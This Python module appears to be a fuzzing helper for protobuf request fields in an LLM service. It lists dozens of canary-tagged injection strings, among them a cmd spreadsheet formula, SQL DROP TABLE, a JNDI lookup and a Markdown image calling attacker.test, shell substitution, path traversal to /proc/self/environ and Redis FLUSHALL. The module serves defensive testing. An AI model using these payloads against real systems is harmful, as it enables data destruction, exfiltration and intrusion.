"""Every text field of a request, from its descriptor, and hostile texts to put there."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, Final, TypeAlias

from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message

Path: TypeAlias = tuple[FieldDescriptor, ...]

MARK: Final = "zqx7"
"""In every hostile text: where it turns up, a text of a caller has got."""
HOSTILE: Final = {
    "formula": f'=cmd|"/c {MARK}"!A1',
    "formula of minus": f"-2+3+{MARK}",
    "formula of at": f"@SUM({MARK})",
    "formula after a tab": f"\t={MARK}",
    "formula after a quote": f"'={MARK}",
    "full-width formula": f"\N{FULLWIDTH EQUALS SIGN}{MARK}",
    "quotes": f"{MARK}\"'`\\",
    "line of a log": f'{MARK}\n{{"level": "error", "event": "{MARK}"}}',
    "headers": f"{MARK}\r\nX-Evil: {MARK}\r\n\r\n",
    "NUL": f"{MARK}\x00{MARK}",
    "terminal commands": f"\x1b[2J\x1b]0;{MARK}\x07\x1b[31m",
    "terminal commands of one byte": f"\x9b31m{MARK}\x9d0;x\x9c",
    "backspaces": f"{MARK}\x08\x08\x7f",
    "bidirectional controls": f"{MARK}\u202e\u2066gpj.exe\u2069",
    "line separators": f"{MARK}\u2028\u2029\x85\x0b\x0c",
    "invisible characters": f"\u200b\ufeff{MARK}\u00ad\U000e0041",
    "SQL": f"'; DROP TABLE logs; -- {MARK}",
    "SQL condition": f"{MARK}' OR '1'='1",
    "SQL comment": f"{MARK}*/ OR 1=1 /*",
    "pattern of LIKE": f"%{MARK}_\\",
    "parameters": f"$1 :a ? {MARK}",
    "printf": f"%s%n%d%({MARK})s",
    "format": f"{{}}{{0.__class__}}{{{MARK}}}",
    "JNDI": f"${{jndi:ldap://attacker.test/{MARK}}}",
    "template": f"{{{{7*7}}}}<%= {MARK} %>#{{7*7}}",
    "HTML": f"<script>alert('{MARK}')</script>",
    "image of Markdown": f"![{MARK}](http://attacker.test/)",
    "path": f"../../../../../etc/{MARK}",
    "absolute path": f"/proc/self/environ/{MARK}",
    "path of Windows": f"..\\..\\{MARK}\\CON",
    "shell": f"$(touch {MARK}) `{MARK}` | {MARK} & {MARK}",
    "command of Redis": f"{MARK}\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "row of COPY": f"{MARK}\t\\N\n\\.\n",
    "JSON": f'"}}],"{MARK}":[{{"',
    "regular expression": f"({MARK}+)+$",
    "no characters": f"{MARK}\uffff\U0010ffff\ufdd0",
    "long": MARK * 30_000,
    "nearly too long": f"'{MARK}\U0001f600" * 2_000,
}


def text_fields(message: Descriptor, _above: tuple[Descriptor, ...] = ()) -> Iterator[Path]:
    """Yield the path of every text field, those of nested messages and of maps included."""
    for field in message.fields:
        inner = field.message_type
        if field.type == FieldDescriptor.TYPE_STRING:
            yield (field,)
        elif inner is not None and inner not in (message, *_above) and inner.file.package.startswith("llm_"):
            for path in text_fields(inner, (message, *_above)):
                yield (field, *path)


def name_of(path: Path) -> str:
    """Return a path as the contract's field masks write it."""
    return ".".join(field.name for field in path)


def put(message: Message, path: Path, text: str) -> None:
    """Set the text field at a path; of repeated messages the first, of repeated texts one more."""
    field, *rest = path
    if field.message_type is not None and field.message_type.GetOptions().map_entry:
        _put_entry(getattr(message, field.name), rest[0].name, field, text)
    elif field.is_repeated and rest:
        found = getattr(message, field.name)
        put(found[0] if found else found.add(), tuple(rest), text)
    elif field.is_repeated:
        getattr(message, field.name).append(text)
    elif rest:
        put(getattr(message, field.name), tuple(rest), text)
    else:
        setattr(message, field.name, text)


def _put_entry(entries: Any, side: str, field: FieldDescriptor, text: str) -> None:
    entry = field.message_type
    assert entry is not None
    is_text = entry.fields_by_name["value"].type == FieldDescriptor.TYPE_STRING
    if side == "value":
        entries[next(iter(entries), "key")] = text
    else:
        entries[text] = "value" if is_text else 1
